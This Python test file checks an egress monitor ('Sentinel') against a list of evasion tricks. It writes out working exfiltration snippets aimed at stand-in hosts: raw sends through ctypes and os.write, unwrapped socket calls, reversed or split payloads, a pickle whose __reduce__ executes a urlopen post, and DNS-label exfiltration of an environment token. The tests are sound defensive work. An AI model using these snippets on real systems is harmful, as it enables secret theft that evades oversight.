# The ways around the look at what leaves, tried: SECURITY.md lists them, and here is what is still seen of each.

from .test_content import CLIENTS, KNOWN, ContentTest

OPENED = """
        import socket
        host, port = place.split(':')
        connection = socket.create_connection((host, int(port)))
        """
WAYS = {
    'ctypes': OPENED + 'import ctypes; ctypes.CDLL(None).send(connection.fileno(), body, len(body), 0); connection.close()',
    'os.write': OPENED + 'os.write(connection.fileno(), body); connection.close()',
    'the original': OPENED + 'socket.socket.sendall.__wrapped__(connection, body); connection.close()',
    'the class in C': OPENED + 'import _socket; _socket.socket.sendall(connection, body); connection.close()',
    'reloaded': 'import socket, importlib; importlib.reload(socket)' + OPENED + 'connection.sendall(body); connection.close()',
    'reversed': OPENED + 'connection.sendall(body[::-1]); connection.close()',
    'a first byte of TLS': OPENED + 'import ssl; connection.sendall(bytes((0x17, 3, 3)) + body); connection.close()',
    'two connections': """
        import socket
        host, port = place.split(':')
        for part in (body[:9], body[9:]):
            with socket.create_connection((host, int(port))) as connection:
                connection.sendall(part)
        """,
}
NO_CONTENT = ('ctypes', 'os.write', 'the original', 'the class in C', 'reloaded', 'a first byte of TLS')


class Evasions(ContentTest):
    def test_the_connection_is_told_where_the_content_is_not_seen(self):
        self.force('deny')
        for way, text in WAYS.items():
            with self.subTest(way=way):
                CLIENTS[way] = text
                self.addCleanup(CLIENTS.pop, way)
                result = self.send(way, [KNOWN.encode()], 'elsewhere.example')
                self.assertEqual((result.err, result.out), ('', ''))
                self.assertIn('127.0.0.1', self.told(result, 'host.connected', 'address'))
                told = [line['secrets'] for line in self.lines(result, 'content.sent')]
                self.assertEqual(told, [] if way in NO_CONTENT else [[]])
                self.assertEqual(sorted(self.received().strip(b'\x17\x03')), sorted(KNOWN.encode()))

    def test_ctypes_is_told_as_what_it_loads(self):
        CLIENTS['ctypes'] = WAYS['ctypes']
        self.addCleanup(CLIENTS.pop, 'ctypes')
        result = self.send('ctypes', [KNOWN.encode()], 'elsewhere.example')
        self.assertIn('ctypes', self.told(result, 'module.imported', 'module'))

    def test_a_secret_over_two_pieces_is_found_when_it_is_whole(self):
        self.force('deny')
        CLIENTS['pieces'] = OPENED + 'connection.sendall(body[:9]); connection.sendall(body[9:]); connection.close()'
        self.addCleanup(CLIENTS.pop, 'pieces')
        result = self.send('pieces', [KNOWN.encode()], 'elsewhere.example')
        self.assertIn('Sentinel stopped: ', result.out)
        self.assertEqual(self.received(), KNOWN.encode()[:9])

    def test_unpickled_code_is_code(self):
        self.force('deny')
        CLIENTS['pickle'] = """
        import pickle
        class Sends:
            def __reduce__(self):
                text = "import urllib.request as u; u.urlopen('http://%s/in', data=%r)" % (place, body)
                return exec, (text,)
        pickle.loads(pickle.dumps(Sends()))
        """
        self.addCleanup(CLIENTS.pop, 'pickle')
        result = self.send('pickle', [KNOWN.encode()], 'elsewhere.example')
        self.assertIn('Sentinel stopped: ', result.out)
        self.assertNotIn(KNOWN.encode(), self.received())

    def test_a_name_that_is_looked_up_and_a_child_without_a_probe_are_told_as_they_are(self):
        result = self.program(
            """
            import socket, subprocess, sys
            try:
                socket.gethostbyname('abc123def.labels.invalid')
            except OSError:
                pass
            subprocess.run([sys.executable, '-S', '-c', 'pass'])
            """
        )
        self.assertEqual(self.told(result, 'host.resolved', 'host'), ['abc123def.labels.invalid'])
        self.assertIn('-S', self.told(result, 'process.started', 'argv')[0])

    def test_a_known_value_in_the_labels_of_a_name_is_found_and_does_not_stand_in_the_evidence(self):
        text = """
            import os, socket
            hidden = os.environ['ACME_TOKEN'].encode().hex()
            try:
                socket.gethostbyname(hidden[:20] + '.' + hidden[20:] + '.labels.invalid')
            except PermissionError as fault:
                print(fault)
            except OSError:
                pass
            """
        result = self.program(text, env={'ACME_TOKEN': KNOWN})
        sent = [(line['host'], [one['type'] for one in line['secrets']]) for line in self.lines(result, 'content.sent')]
        self.assertEqual(sent, [('***.labels.invalid', ['environment'])])
        self.assertEqual(self.told(result, 'host.resolved', 'host'), ['***.labels.invalid'])
        self.force('deny')
        result = self.program(text, env={'ACME_TOKEN': KNOWN})
        self.assertIn('Sentinel stopped: ', result.out)
